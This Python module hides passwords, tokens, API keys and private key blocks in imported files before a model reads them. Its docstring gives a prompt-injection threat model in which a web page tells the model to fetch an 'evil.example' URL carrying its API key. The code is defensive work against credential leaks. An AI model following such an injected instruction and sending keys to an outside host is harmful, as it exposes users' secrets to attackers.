"""Passwords, tokens and keys in imported files, stored as "***".

Passages are given to the model, which may call web tools: a page that tells it to fetch
``https://evil.example/?k=<your API key>`` must find no key to send. So the values of keys named like a
secret (``password``, ``db_passwd``, ``AWS_SECRET_ACCESS_KEY``, ``apiKey``, ``client_secret``, ``token``,
``credentials``) are hidden where they are assigned, in the forms of INI, TOML, YAML, env files, JSON, Python,
JavaScript, Go and shell; so are the password of an address (``postgres://app:hunter2@db``, with
hidden_passwords) and the body of a PEM private key block.

Conservative, as a passage's words are what the search finds: only assignments, never prose ("the password
must be 8 characters"); an unquoted value only where a file's syntax has them (configuration files, shell,
Makefiles, Dockerfiles, JSON as its reader writes it) and only as one word to the end of its line ("password:
the one on the card" is prose too); no reference to a secret kept elsewhere (``$DB_PASSWORD``,
``${TOKEN}``, ``{{ vault_token }}``, ``<your key>``, ``os.environ["TOKEN"]``); no value of three characters
or less, nor true/false/null. Programs, configuration files and JSON get all of it: that is where a project
keeps its keys. Documents (text, Markdown, web pages …) get only the private key blocks, which are never
prose: their examples ("password = changeme" in a manual) are what a reader searches them for.
"""

from __future__ import annotations

import re
from dataclasses import replace

from ..hidden_passwords import MASK, hide_passwords
from .models import Document

# The kinds of source whose assignments are looked at (readers' types); the others' key blocks only.
_ASSIGNING = frozenset({"code", "config", "json"})
# Languages (code_files) whose values may stand unquoted: "password = hunter2", PASSWORD=hunter2.
UNQUOTED = frozenset({"ini", "yaml", "sh", "make", "docker", "json"})

# A key whose name ends in a secret's word: db_password, AWS_SECRET_ACCESS_KEY, apiKey, "client-secret",
# users[0].password (JSON as its reader writes it).
_KEY = (r"(?<![\w$\-.])(?P<kq>[\"']?)(?:[A-Za-z_][\w.\-\[\]]*?)?"
        r"(?:password|passwd|secret|secret[_.\-]?key|token|api[_.\-]?key|access[_.\-]?key|private[_.\-]?key"
        r"|credentials?)(?P=kq)")
_SEP = r"[ \t]*(?:=>|:=|=(?!=)|:(?![:=]))[ \t]*"
_QUOTED = r"[rRbBuU]{0,2}(?P<q>[\"'`])(?P<qv>(?:\\.|(?!(?P=q))[^\\\n])*)(?P=q)"
# One word to the end of the line, or to a comment: "hunter2", "hunter2  # production"; the brackets that close
# a YAML or TOML mapping it ends are not its own ("{user: ann, password: hunter2}").
_BARE = r"(?P<bv>[^\s\"'`{}\[\]()|>&$<*#;,][^\s]*?)(?=[,}\]]*[ \t]*$|[ \t]+[#;])"
_ASSIGNMENT = {bare: re.compile(f"{_KEY}{_SEP}(?:{_QUOTED}{'|' + _BARE if bare else ''})", re.I | re.M)
               for bare in (False, True)}
# What can be in a line that assigns a secret: looked for first, in the text in lower case (ten times as fast
# as re.I), as most lines hold none of it.
_SECRET_WORD = re.compile(r"passw|secret|token|api.?key|access.?key|private.?key|credential")
_SECRET_WORD_ANY_CASE = re.compile(_SECRET_WORD.pattern, re.I)
# A value that is no secret but where one is: a reference, a placeholder, a switch.
_NOT_A_VALUE = re.compile(r"(?:[$%]|\{\{|<|\*+$|x+$|(?:true|false|yes|no|on|off|null|none|nil|undefined)$)", re.I)
_PEM = re.compile(r"(-----BEGIN [A-Z0-9 ]*PRIVATE KEY( BLOCK)?-----)[\s\S]*?(-----END [A-Z0-9 ]*PRIVATE KEY"
                  r"(?: BLOCK)?-----|\Z)")


def hide_secrets(text: str, assignments: bool = True, unquoted: bool = False) -> tuple[str, int]:
    """``text`` with its secrets as :data:`MASK`, and how many were hidden. ``assignments``: the values of keys
    named like secrets and the passwords of addresses too, not only private key blocks; ``unquoted``: values
    written without quotes count (see UNQUOTED)."""
    hidden = 0
    if "PRIVATE KEY" in text:
        text, hidden = _PEM.subn(lambda m: f"{m.group(1)}\n{MASK}\n{m.group(3) or ''}".rstrip("\n"), text)
    if not assignments:
        return text, hidden
    if "://" in text and "@" in text:
        masked = hide_passwords(text)
        if masked != text:
            hidden += masked.count(f":{MASK}@") - text.count(f":{MASK}@")
            text = masked
    return _without_assignments(text, _ASSIGNMENT[unquoted], hidden)


def _without_assignments(text: str, assignment: re.Pattern[str], hidden: int) -> tuple[str, int]:
    """``text`` with the values ``assignment`` finds hidden, and ``hidden`` plus their number. Only the lines
    that hold a secret's word are looked at: over all of a 23 MB JSON file, the pattern took 5 s."""
    count = hidden

    def masked(match: re.Match[str]) -> str:
        nonlocal count
        value = match.group("qv") if match.group("q") else match.group("bv")
        if value is None or len(value) <= 3 or _NOT_A_VALUE.match(value) or value.count(" ") > 2:
            return match.group(0)  # a sentence in quotes is no password: "the token you were given"
        count += 1
        start, end = match.span("qv" if match.group("q") else "bv")
        return match.group(0)[:start - match.start()] + MASK + match.group(0)[end - match.start():]

    lower = text.lower()
    # a letter whose lower case is longer ("İ") would move the places found: then the text as it is
    words, haystack = (_SECRET_WORD, lower) if len(lower) == len(text) else (_SECRET_WORD_ANY_CASE, text)
    parts, pos = [], 0
    while found := words.search(haystack, pos):
        start = text.rfind("\n", 0, found.start()) + 1
        end = text.find("\n", found.end())
        end = len(text) if end < 0 else end
        parts += [text[pos:start], assignment.sub(masked, text[start:end])]
        pos = end
    if not parts:
        return text, count
    parts.append(text[pos:])
    return "".join(parts), count


def document_without_secrets(doc: Document, language: str = "") -> Document:
    """``doc`` with the secrets in its blocks hidden (see hide_secrets) and their number in ``doc.hidden``;
    ``language``: a code file's (code_files), which says whether its values may stand unquoted."""
    assignments = doc.type in _ASSIGNING
    unquoted = doc.type in ("config", "json") or language in UNQUOTED
    blocks, hidden = [], 0
    for block in doc.blocks:
        if block.kind == "heading" or (not assignments and "PRIVATE KEY" not in block.text):
            blocks.append(block)
            continue
        text, count = hide_secrets(block.text, assignments, unquoted)
        blocks.append(replace(block, text=text) if count else block)
        hidden += count
    return replace(doc, blocks=tuple(blocks), hidden=doc.hidden + hidden) if hidden else doc
